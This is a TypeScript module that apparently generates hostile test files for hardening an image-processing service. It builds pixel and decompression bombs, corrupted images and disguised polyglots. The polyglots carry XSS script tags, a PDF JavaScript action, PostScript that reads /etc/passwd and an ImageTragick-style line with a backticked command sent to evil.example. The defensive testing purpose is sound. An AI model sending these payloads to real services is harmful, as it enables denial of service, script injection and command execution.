import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { hostileSvgs } from './hostile-svg.ts'
import { chunk, end, header, hugePng, pngOf } from './png.ts'

export interface HostileFile {
  readonly name: string
  readonly bytes: Uint8Array
}

/** The same numbers in every run. */
function chance(seed: number): (below: number) => number {
  let state = seed
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
}

const art = () =>
  sharp(
    Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="240" height="160"><rect width="240" height="160" fill="#fff"/><circle cx="90" cy="80" r="60" fill="#c03"/><path d="M0 0l240 160" stroke="#036" stroke-width="9"/></svg>',
    ),
  )

/** Sound pictures of every kind, to be spoilt. */
async function soundPictures(): Promise<[string, Buffer][]> {
  const photograph = art().withExif({ IFD0: { Make: 'x' }, IFD3: { GPSLatitude: '40/1 42/1 46/1' } })
  return [
    ['png', await art().png().toBuffer()],
    ['palette.png', await art().png({ palette: true }).toBuffer()],
    ['deep.png', await art().toColourspace('rgb16').png().toBuffer()],
    ['jpg', await photograph.clone().jpeg().toBuffer()],
    ['progressive.jpg', await art().jpeg({ progressive: true }).toBuffer()],
    ['cmyk.jpg', await art().toColourspace('cmyk').jpeg().toBuffer()],
    ['webp', await art().webp().toBuffer()],
    ['lossless.webp', await art().webp({ lossless: true }).toBuffer()],
  ]
}

function spoilt(name: string, bytes: Buffer, random: (below: number) => number): HostileFile[] {
  const cut = [12, Math.floor(bytes.length / 2), bytes.length - 9].map((length) => ({
    name: `${length} bytes of ${name}`,
    bytes: bytes.subarray(0, length),
  }))
  const changed = [1, 3, 9, 40, 100, 400, 2_000].map((count) => {
    const copy = Buffer.from(bytes)
    // The first bytes stay, so that the file still looks like what it was.
    for (let time = 0; time < count; time++) copy[16 + random(copy.length - 16)] = random(256)
    return { name: `${count} bytes changed in ${name}`, bytes: copy }
  })
  const [a, b] = [16 + random(bytes.length - 16), random(bytes.length)]
  const doubled = Buffer.concat([bytes.subarray(0, a), bytes.subarray(b), bytes])
  return [...cut, ...changed, { name: `pieces of ${name}`, bytes: doubled }]
}

function withSize(bytes: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(bytes)
  // Start of frame of a JPEG: height and width follow its length and precision.
  const at = copy.findIndex((byte, index) => byte === 0xff && [0xc0, 0xc1, 0xc2].includes(copy[index + 1] ?? 0))
  copy.writeUInt16BE(height, at + 5)
  copy.writeUInt16BE(width, at + 7)
  return copy
}

/** The last scan of a progressive JPEG, again and again: each costs a walk over the whole picture. */
function manyScans(bytes: Buffer, count: number): Buffer {
  const scan = bytes.subarray(bytes.lastIndexOf(Buffer.from([0xff, 0xda])), -2)
  return Buffer.concat([bytes.subarray(0, -2), ...Array.from({ length: count }, () => scan), bytes.subarray(-2)])
}

const rows = (bytes: number) => chunk('IDAT', deflateSync(Buffer.alloc(bytes), { level: 9 }))
const note = (type: string, head: string, size: number) =>
  chunk(type, Buffer.concat([Buffer.from(head, 'latin1'), deflateSync(Buffer.alloc(size, 65), { level: 9 })]))

async function bombs(): Promise<HostileFile[]> {
  const progressive = await art().resize(1600).jpeg({ progressive: true }).toBuffer()
  const jpeg = await art().jpeg().toBuffer()
  const webp = await art().webp().toBuffer()
  const canvas = Buffer.from(webp)
  canvas.writeUInt32LE(0x3fff3fff, 26)
  const files: [string, Buffer][] = [
    ['20,000 × 20,000 pixels', hugePng(20_000)],
    ['16,000 × 16,000 pixels', hugePng(16_000)],
    ['a little over 40 million pixels', hugePng(6_328)],
    ['2,147,483,647 pixels wide', pngOf(header(0x7fffffff, 1), rows(64), end)],
    ['no pixels', pngOf(header(0, 0), rows(1), end)],
    ['more rows than it has', pngOf(header(4_000, 4_000, 8, 6), rows(90), end)],
    ['far more rows than it says', pngOf(header(8, 8, 8, 6), rows(40_000_000), end)],
    ['a note of 200 MB', pngOf(header(8, 8), note('zTXt', 'a\0\0', 200_000_000), rows(16), end)],
    ['a color profile of 200 MB', pngOf(header(8, 8), note('iCCP', 'a\0\0', 200_000_000), rows(16), end)],
    ['an international note of 200 MB', pngOf(header(8, 8), note('iTXt', 'a\0\x01\0\0\0', 200_000_000), rows(16), end)],
    [
      '20,000 chunks',
      pngOf(header(8, 8), ...Array.from({ length: 20_000 }, () => chunk('tEXt', Buffer.from('a\0b'))), rows(16), end),
    ],
    ['a chunk as long as the world', pngOf(header(8, 8), Buffer.from('ffffffff4944415400', 'hex'))],
    ['a palette too short', pngOf(header(8, 8, 8, 3), chunk('PLTE', Buffer.alloc(3)), rows(72), end)],
    ['a JPEG of 65,535 × 65,535', withSize(jpeg, 65_535, 65_535)],
    ['a JPEG of 65,535 × 1', withSize(jpeg, 65_535, 1)],
    ['a JPEG of no height', withSize(jpeg, 240, 0)],
    ['a JPEG of 3,000 scans', manyScans(progressive, 3_000)],
    ['a WebP of 16,383 × 16,383', canvas],
  ]
  return files.map(([name, bytes]) => ({ name, bytes }))
}

const SCRIPT = '<script>alert(document.domain)</script>'

async function disguises(): Promise<HostileFile[]> {
  const [good, jpeg] = [await art().png().toBuffer(), await art().jpeg().toBuffer()]
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, SCRIPT.length + 2]), Buffer.from(SCRIPT)])
  const frames = await sharp(Buffer.alloc(30 * 30 * 3 * 40, 90), {
    raw: { width: 30, height: 1_200, channels: 3, pageHeight: 30 },
  })
    .webp({ loop: 0 })
    .toBuffer()
  const files: [string, Buffer | string][] = [
    ['nothing', ''],
    ['one letter', 'x'],
    ['HTML', `<!doctype html>${SCRIPT}`],
    ['HTML that begins like an SVG', `<svg><title>${SCRIPT}</title></svg>${SCRIPT}`],
    ['a script', 'alert(1)'],
    ['a PDF', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
    ['PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'],
    ['a program', Buffer.from('4d5a90000300000004000000ffff0000', 'hex')],
    ['a zip file', Buffer.from('504b0304140000000800', 'hex')],
    ['a gzipped drawing', gzipSync(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
    ['a GIF', await art().gif().toBuffer()],
    ['a GIF with a script', `GIF89a/*${SCRIPT}*/=1`],
    ['a TIFF', await art().tiff().toBuffer()],
    ['an AVIF', await art().resize(16).avif().toBuffer()],
    ['a bitmap', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
    ['a Photoshop file', Buffer.concat([Buffer.from('8BPS'), Buffer.alloc(60)])],
    [
      'a magic script',
      'push graphic-context\nimage over 0,0 0,0 "https://evil.example/x.php?x=`id`"\npop graphic-context',
    ],
    ['a PNG and HTML after it', Buffer.concat([good, Buffer.from(SCRIPT)])],
    [
      'a PNG with a script in a note',
      pngOf(header(8, 8), chunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`)), rows(16), end),
    ],
    ['a JPEG with a script in a comment', Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])],
    ['a WebP of forty pictures', frames],
    ['a signature of a PNG', good.subarray(0, 8)],
    [
      'a signature of a PNG and an SVG',
      Buffer.concat([good.subarray(0, 8), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')]),
    ],
    [
      'an SVG of two bytes a letter',
      Buffer.from(`\ufeff<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`, 'utf16le'),
    ],
    [
      'a drawing with two bombs in it',
      `<svg xmlns="http://www.w3.org/2000/svg">${[1, 2].map((at) => `<image x="${at}" href="data:image/png;base64,${hugePng(5_000).toString('base64')}"/>`).join('')}</svg>`,
    ],
    ['20 MB of blanks', Buffer.concat([Buffer.from('<svg '), Buffer.alloc(20_000_000, 32), Buffer.from('>')])],
  ]
  return files.map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) }))
}

/** Files that nobody should send, the same in every run. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const random = chance(20_261_122)
  const sound = await soundPictures()
  return [
    ...(await bombs()),
    ...(await disguises()),
    ...hostileSvgs.map(([name, text]) => ({ name, bytes: Buffer.from(text) })),
    ...sound.flatMap(([name, bytes]) => spoilt(name, bytes, random)),
  ]
}
